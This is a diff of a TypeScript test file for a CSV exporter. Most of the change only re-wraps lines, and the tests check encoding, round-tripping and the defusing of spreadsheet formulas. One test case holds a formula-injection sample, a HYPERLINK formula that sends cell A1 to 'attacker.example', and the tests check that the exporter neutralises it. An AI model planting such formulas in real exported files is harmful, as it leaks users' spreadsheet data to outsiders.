@@ -7,25 +7,36 @@ import { fixtureModel, realModel } from '../fixtures/generated/model.ts';
 
 describe('toCsv', () => {
   it('starts with a byte order mark for Excel and ends rows with CRLF', () => {
-    const text = toCsv([['a', 'b'], ['1', '2']]);
+    const text = toCsv([
+      ['a', 'b'],
+      ['1', '2'],
+    ]);
     expect(text.startsWith(CSV_BOM)).toBe(true);
     expect(text.slice(1)).toBe('a,b\r\n1,2');
   });
   it('round-trips commas, quotes, line breaks and Chinese text', () => {
-    const rows = [['text', 'zh'], ['a, b', '部门负责人'], ['say "go"', '多行\n文本'], ['', 'x']];
+    const rows = [
+      ['text', 'zh'],
+      ['a, b', '部门负责人'],
+      ['say "go"', '多行\n文本'],
+      ['', 'x'],
+    ];
     expect(parseCsv(toCsv(rows))).toEqual(rows);
   });
   it('defuses cells a spreadsheet would run as formulas', () => {
-    expect(parseCsv(toCsv([['h'], ['=HYPERLINK("x")'], ['@SUM(A1)']]))).toEqual([['h'], ['\'=HYPERLINK("x")'], ["'@SUM(A1)"]]);
+    expect(parseCsv(toCsv([['h'], ['=HYPERLINK("x")'], ['@SUM(A1)']]))).toEqual([
+      ['h'],
+      ['\'=HYPERLINK("x")'],
+      ["'@SUM(A1)"],
+    ]);
   });
   it('defuses a formula that spans several lines, and leaves a formula sign after the first character alone', () => {
     const cells = ['=HYPERLINK("https://attacker.example/?d="&A1,\n"open")', '+1\n2', '\n=1', 'ok\n=1'];
-    expect(parseCsv(toCsv([['h'], ...cells.map((c) => [c])])).slice(1).map(([c]) => c)).toEqual([
-      '\'=HYPERLINK("https://attacker.example/?d="&A1,\n"open")',
-      "'+1\n2",
-      "'\n=1",
-      'ok\n=1',
-    ]);
+    expect(
+      parseCsv(toCsv([['h'], ...cells.map((c) => [c])]))
+        .slice(1)
+        .map(([c]) => c),
+    ).toEqual(['\'=HYPERLINK("https://attacker.example/?d="&A1,\n"open")', "'+1\n2", "'\n=1", 'ok\n=1']);
   });
 });
 
@@ -47,7 +58,10 @@ describe('every CSV export defuses a multi-line formula in any cell', () => {
 });
 
 describe('the matrix CSV', () => {
-  for (const [name, load] of [['fixture', fixtureModel], ['real content', realModel]] as const) {
+  for (const [name, load] of [
+    ['fixture', fixtureModel],
+    ['real content', realModel],
+  ] as const) {
     it(`round-trips for the ${name}, and every cell reads back to its grant and basis`, () => {
       const matrix = buildMatrix(load());
       const table = matrixTable(matrix);
